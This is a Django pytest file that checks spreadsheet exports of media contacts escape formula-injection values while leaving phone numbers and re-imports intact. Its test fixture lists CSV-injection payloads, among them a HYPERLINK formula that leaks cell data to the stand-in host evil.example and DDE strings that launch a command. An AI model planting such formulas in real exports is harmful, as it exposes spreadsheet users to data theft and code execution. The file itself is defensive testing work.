"""Spreadsheet exports never carry a formula: a cell that Excel or LibreOffice would run
(=, +, -, @ first) is written as text, in every resource (internal and public) and format
(CSV and Excel); phone numbers stay as they are, and re-importing an export changes nothing.
"""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from forum.core import roles
from forum.models import MediaContact
from forum.press.imports import (
    MediaContactResource,
    PublicMediaContactResource,
    escape_formula,
)
from tests.factories import MediaContactFactory, user_in

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    '==HYPERLINK("https://evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
RESOURCES = (MediaContactResource, PublicMediaContactResource)
FORMATS = {"csv": "0", "xlsx": "1"}


@pytest.fixture
def press_client(client):
    client.force_login(user_in(roles.PRESS_OFFICERS))
    return client


@pytest.fixture
def contacts():
    return [MediaContactFactory(job_title_en=formula, hours_en=formula) for formula in FORMULAS]


def export(client, resource_index, file_format):
    resource = RESOURCES[resource_index]
    data = {
        "format": FORMATS[file_format],
        "resource": str(resource_index),
        **{f"{resource.__name__.lower()}_{field}": "on" for field in resource().get_export_order()},
    }
    response = client.post(reverse("admin:forum_mediacontact_export"), data)
    assert response.status_code == 200
    return response.content


def rows(content, file_format):
    """[{column: (value, is_formula)}] of the exported sheet."""
    if file_format == "csv":
        reader = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
        return [{key: (value, False) for key, value in row.items()} for row in reader]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, *lines = list(sheet.iter_rows())
    names = [cell.value for cell in header]
    return [
        {name: (cell.value, cell.data_type == "f") for name, cell in zip(names, line, strict=True)}
        for line in lines
    ]


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize("resource_index", [0, 1], ids=["internal", "public"])
def test_export_writes_formula_cells_as_text(press_client, contacts, resource_index, file_format):
    exported = rows(export(press_client, resource_index, file_format), file_format)
    assert sorted(row["job_title_en"][0] for row in exported) == sorted(f"'{f}" for f in FORMULAS)
    assert sorted(row["hours_en"][0] for row in exported) == sorted(f"'{f}" for f in FORMULAS)
    for row in exported:
        for column, (value, is_formula) in row.items():
            assert not is_formula, column
            text = "" if value is None else str(value)
            if column not in ("mobile", "office_phone", "fax"):
                assert not text.startswith(("=", "+", "-", "@")), (column, text)


@pytest.mark.parametrize("file_format", FORMATS)
def test_export_leaves_phone_numbers_alone(press_client, contacts, file_format):
    exported = rows(export(press_client, 1, file_format), file_format)
    office = {row["office_phone"][0] for row in exported}
    assert all(number.startswith("+86 10 6425 5855 ext. ") for number in office)
    internal = rows(export(press_client, 0, file_format), file_format)
    assert {row["mobile"][0] for row in internal} == {contact.mobile for contact in contacts}


def test_reimport_of_an_internal_export_changes_nothing(press_client, contacts):
    content = export(press_client, 0, "csv")
    response = press_client.post(
        reverse("admin:forum_mediacontact_import"),
        {"format": "0", "import_file": SimpleUploadedFile("contacts.csv", content)},
    )
    totals = response.context["result"].totals
    assert (totals["new"], totals["update"], totals["skip"]) == (0, 0, len(FORMULAS))
    assert sorted(MediaContact.objects.values_list("job_title_en", flat=True)) == sorted(FORMULAS)


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("@A1", "'@A1"),
        ("\tTab", "'\tTab"),
        ("+8618666028168", "+8618666028168"),
        ("+86 10 6425 5855 ext. 8014", "+86 10 6425 5855 ext. 8014"),
        ("-1", "-1"),
        ("Press officer", "Press officer"),
        (None, None),
        (3, 3),
    ],
)
def test_escape_formula_leaves_only_numbers_and_text_alone(value, escaped):
    assert escape_formula(value) == escaped
